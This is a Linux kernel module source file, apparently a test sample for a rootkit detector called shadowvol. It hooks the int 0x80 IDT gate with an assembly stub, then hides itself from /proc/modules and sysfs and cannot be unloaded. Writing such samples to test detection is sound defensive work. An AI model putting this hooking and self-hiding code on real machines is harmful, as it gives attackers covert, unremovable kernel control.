// SPDX-License-Identifier: GPL-2.0
/* Test rootkit: an IDT hook whose culprit hides.
 *  - idt_table[0x80] (the int $0x80 gate of 32-bit system calls, the classic
 *    target) is re-pointed at rk_idt_stub, in this module; the gate's type,
 *    DPL and IST stay as they were. idt_table is read-only after boot
 *    (idt_setup_apic_and_irq_gates): written through a vmap alias.
 *  - rk_idt_stub answers "int $0x80" with eax = RK_IDT_ASK by RK_IDT_ANSWER
 *    (iretq), and passes everything else on to the original handler.
 *  - list_del(&THIS_MODULE->list) and kobject_del(&THIS_MODULE->mkobj.kobj):
 *    gone from /proc/modules and /sys/module; its code stays in module memory.
 *
 * Effect, verified in the guest: module init raises int $0x80 with
 * RK_IDT_ASK (from kernel mode: no 32-bit program is needed) and logs
 *   "rk_idtghost: vector 0x80 -> <stub address>, int $0x80 answered <n>, hidden".
 * It cannot be unloaded: load it only in a throw-away test VM. */
#include <linux/kobject.h>
#include <linux/kprobes.h>
#include <linux/list.h>
#include <linux/module.h>
#include <linux/mm.h>
#include <linux/stringify.h>
#include <linux/vmalloc.h>
#include <asm/desc.h>

#include "rk_common.h"

#define RK_VECTOR 0x80
#define RK_IDT_ASK 31337
#define RK_IDT_ANSWER 1337

unsigned long rk_orig_handler;
void rk_idt_stub(void);

asm(".pushsection .text\n"
    ".globl rk_idt_stub\n"
    ".type rk_idt_stub, @function\n"
    "rk_idt_stub:\n"
    "	cmpl $" __stringify(RK_IDT_ASK) ", %eax\n"
    "	jne 1f\n"
    "	movl $" __stringify(RK_IDT_ANSWER) ", %eax\n"
    "	iretq\n"
    "1:	jmp *rk_orig_handler(%rip)\n"
    ".size rk_idt_stub, .-rk_idt_stub\n"
    ".popsection\n");

static unsigned long rk_gate_target(const gate_desc *g)
{
	return g->offset_low | ((unsigned long)g->offset_middle << 16) | ((unsigned long)g->offset_high << 32);
}

static int __init rk_idtghost_init(void)
{
	gate_desc *table = (gate_desc *)rk_lookup_name("idt_table");
	unsigned long stub = (unsigned long)rk_idt_stub;
	gate_desc gate;
	long answer = RK_IDT_ASK;
	int err;

	if (!table)
		return -ENOENT;
	gate = table[RK_VECTOR];
	if (!gate.bits.p)
		return -ENODEV; /* no int $0x80 gate (ia32_emulation=false) */
	rk_orig_handler = rk_gate_target(&gate);
	gate.offset_low = (u16)stub;
	gate.offset_middle = (u16)(stub >> 16);
	gate.offset_high = (u32)(stub >> 32);
	err = rk_poke(&table[RK_VECTOR], &gate, sizeof(gate));
	if (err)
		return err;
	asm volatile("int $" __stringify(RK_VECTOR) : "+a"(answer) : : "memory");
	list_del(&THIS_MODULE->list);
	kobject_del(&THIS_MODULE->mkobj.kobj);
	pr_info("rk_idtghost: vector %#x -> %px, int $0x80 answered %ld, hidden\n", RK_VECTOR, rk_idt_stub, answer);
	return 0;
}

module_init(rk_idtghost_init);
MODULE_LICENSE("GPL");
MODULE_DESCRIPTION("shadowvol test rootkit: hooks an IDT gate, hides from the module list and sysfs");
